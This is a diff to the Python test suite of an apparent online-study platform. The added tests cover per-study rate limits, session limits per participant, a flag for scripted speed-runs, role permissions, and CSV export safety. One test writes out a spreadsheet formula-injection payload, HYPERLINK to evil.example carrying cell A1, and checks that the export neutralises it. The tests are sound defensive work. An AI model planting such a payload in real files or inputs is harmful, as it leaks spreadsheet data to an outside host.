@@ -86,14 +86,15 @@ def fields_of(page: Reply) -> dict[str, str]:
 
 
 def consent(browser: Browser, query: str, choice: str = "agree", study: str = "test-study") -> Reply:
+    """The entry page and the consent form's answer (a 303 to the new session when agreed)."""
     entry = browser.get(f"/study/{study}?{query}")
     assert entry.status == 200, entry.text[:300]
     return browser.form(f"/study/{study}/consent", {**fields_of(entry), "choice": choice})
 
 
-def start(browser: Browser, query: str) -> tuple[str, dict]:
+def start(browser: Browser, query: str, study: str = "test-study") -> tuple[str, dict]:
     """Consent and instructions; returns the session path (/s/<token>) and the trial data."""
-    reply = consent(browser, query)
+    reply = consent(browser, query, study=study)
     assert reply.status == 303, reply.text[:300]
     browser.consent_reply = reply
     token_path = "/".join(reply.headers["Location"].split("/")[:3])
@@ -138,6 +139,11 @@ def target(request, tmp_path_factory, stimset) -> Iterator[Target]:
     with app.app_context():
         tight = create_study(parse_config({**SECURE, "id": "tight", "admission": {"new_sessions_per_address_per_hour": 2}}),
                              stimset)[0]
+        # Repeats allowed (two sessions per person); the tests finish sessions at machine speed.
+        create_study(parse_config({**SECURE, "id": "again", "min_seconds_per_answer": 0,
+                                   "admission": {**generous, "sessions_per_person": 2}}), stimset)
+        # Two new sessions a minute for the whole study, however many addresses they come from.
+        create_study(parse_config({**SECURE, "id": "crowd", "admission": {"new_sessions_per_minute": 2}}), stimset)
         for name, role in (("ada", "owner"), ("ana", "analyst"), ("vic", "viewer")):
             create_admin(name, PASSWORD)
             db.session.flush()
@@ -221,6 +227,13 @@ def test_the_anonymous_link_is_off_and_new_sessions_are_rate_limited_per_address
     assert sorted(a["reason"] for a in arrivals) == ["anonymous_off", "per_address"]  # repeats within 10 s: one row
 
 
+def test_the_whole_study_admits_a_limited_number_of_new_sessions_a_minute(target):
+    statuses = [consent(Browser(target.base), f"PROLIFIC_PID=crowd{k}", study="crowd").status for k in range(3)]
+    assert statuses == [303, 303, 429]
+    refused = consent(Browser(target.base), "PROLIFIC_PID=crowd9", study="crowd")
+    assert refused.status == 429 and "Many people are starting this study right now" in refused.text
+
+
 def _as_datetime(value):
     import datetime as dt
 
@@ -240,6 +253,43 @@ def test_variants_of_a_panel_id_and_other_panels_do_not_make_a_second_session(ta
     assert target.scalar("SELECT count(*) FROM participant_session") == before
 
 
+def finish(browser: Browser, data: dict) -> Reply:
+    """Every answer of the plan, then the completion request."""
+    for trial in data["trials"]:
+        assert browser.post_json(data["answers_url"], answer(trial)).status == 201
+    return browser.post_json(data["complete_url"], {})
+
+
+def test_one_session_per_person_unless_the_study_allows_repeats(target):
+    # No repeats (the default): an ended session (here screened out, machine speed) is where the
+    # participant's link leads back, for them only; a new submission of the same person starts nothing.
+    frank = Browser(target.base)
+    path, data = start(frank, "PROLIFIC_PID=frank006&STUDY_ID=st1&SESSION_ID=sub-frank")
+    assert finish(frank, data).json()["next"] == f"{path}/end"
+    again = frank.get("/study/test-study?PROLIFIC_PID=frank006&STUDY_ID=st1&SESSION_ID=sub-frank-2")
+    assert again.status == 303 and again.headers["Location"] == f"{path}/end"
+    assert Browser(target.base).get("/study/test-study?participant=frank006").status == 409
+
+    # sessions_per_person = 2: a second session once the first is completed, from any panel,
+    # while the finished submission's own link still finds its debrief.
+    grace = Browser(target.base)
+    first, data = start(grace, "PROLIFIC_PID=grace007&STUDY_ID=st1&SESSION_ID=sub-g1", study="again")
+    back = Browser(target.base).get("/study/again?participant=grace007")
+    assert back.status == 409  # in progress: no second session beside it
+    assert finish(grace, data).status == 200
+    same_submission = Browser(target.base).get("/study/again?PROLIFIC_PID=grace007&STUDY_ID=st1&SESSION_ID=sub-g1")
+    assert same_submission.status == 303 and same_submission.headers["Location"].startswith(f"{first}/debrief")
+    second, data = start(grace, "participant=GRACE007", study="again")
+    assert second != first
+    assert finish(grace, data).status == 200
+    rows = target.scalar("SELECT count(DISTINCT s.participant_hash) || ':' || count(*) || ':' || max(s.attempt) "
+                         "FROM participant_session s JOIN study ON study.id = s.study_id WHERE study.slug = 'again'")
+    assert rows == "1:2:2"  # one person (one participant_id in the exports), two sessions
+    third = grace.get("/study/again?PROLIFIC_PID=grace007&STUDY_ID=st1&SESSION_ID=sub-g3")
+    assert third.status == 303 and third.headers["Location"].startswith(f"{second}/debrief")  # two is the limit
+    assert Browser(target.base).get("/study/again?PROLIFIC_PID=grace007&STUDY_ID=st1&SESSION_ID=sub-g3").status == 409
+
+
 # --- 4. server time ---------------------------------------------------------------------------
 
 def test_a_script_that_finishes_in_a_second_is_screened_out_and_clocks_and_order_are_checked(target):
@@ -255,6 +305,11 @@ def test_a_script_that_finishes_in_a_second_is_screened_out_and_clocks_and_order
     for trial in trials[1:]:
         assert script.post_json(data["answers_url"], answer(trial)).status == 201
     assert script.post_json(data["answers_url"], first).json()["duplicate"] is True  # a retry stays idempotent
+    # The dashboard flags it while it runs, by the server's clock: each answer claimed rt_ms 700
+    # (was: only client rt_ms under 250 ms counted, so this script passed as careful).
+    rows = logged_in(target, "ada").get("/admin/study/test-study/progress.json").json()["sessions_list"]
+    mine = next(r for r in rows if r["session_id"] == path.split("/")[2].split(".")[0])
+    assert mine["too_fast"] and mine["flagged"] and mine["seconds_per_answer"] < 0.5
     done = script.post_json(data["complete_url"], {})
     assert done.status == 200 and done.json()["next"].endswith("/end")
     assert "CODE-OUT" in script.get(done.json()["next"]).text
@@ -308,14 +363,29 @@ def test_roles_limit_what_each_researcher_may_do_and_forwarded_host_is_ignored(t
     viewer, analyst, owner = logged_in(target, "vic"), logged_in(target, "ana"), logged_in(target, "ada")
     page = viewer.get("/admin/study/tight", **{"X-Forwarded-Host": "evil.example"})
     assert page.status == 200 and "evil.example" not in page.text
+    assert "mark=" not in page.text and "mark=" in owner.get("/admin/study/tight").text  # the pilot link: owners only
     assert viewer.get("/admin/study/tight/export/responses.csv").status == 403
     assert analyst.get("/admin/study/tight/export/responses.csv").status == 200
     assert analyst.get("/admin/study/tight/export/payments.csv").status == 403
     assert owner.get("/admin/study/tight/export/payments.csv").status == 200
     token = CSRF.search(analyst.get("/admin/study/tight").text).group(1)
     assert analyst.form("/admin/study/tight/state", {"csrf_token": token, "action": "close"}).status == 403
+    assert analyst.form("/admin/study/tight/delete-participant", {"csrf_token": token, "panel_id": "inv0"}).status == 403
+    assert target.scalar("SELECT count(*) FROM audit_event WHERE action = 'delete_participant'") == 0
     assert viewer.get("/admin/study/test-study").status == 403  # no role on it at all
     assert "test-study" not in viewer.get("/admin/").text
+
+
+# --- 6. exports --------------------------------------------------------------------------------
+
+def test_a_formula_in_the_user_agent_is_inert_in_participants_csv(target):
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    browser = Browser(target.base)
+    entry = browser.get("/study/test-study?PROLIFIC_PID=hank008")
+    assert browser.form("/study/test-study/consent", {**fields_of(entry), "choice": "agree"}, **{"User-Agent": attack}).status == 303
+    exported = logged_in(target, "ada").get("/admin/study/test-study/export/participants.csv")
+    assert exported.status == 200
+    assert "'" + attack.replace('"', '""') in exported.text and ',"=HYPERLINK' not in exported.text
 
 
 # --- 8. malformed input, HEAD, headers --------------------------------------------------------
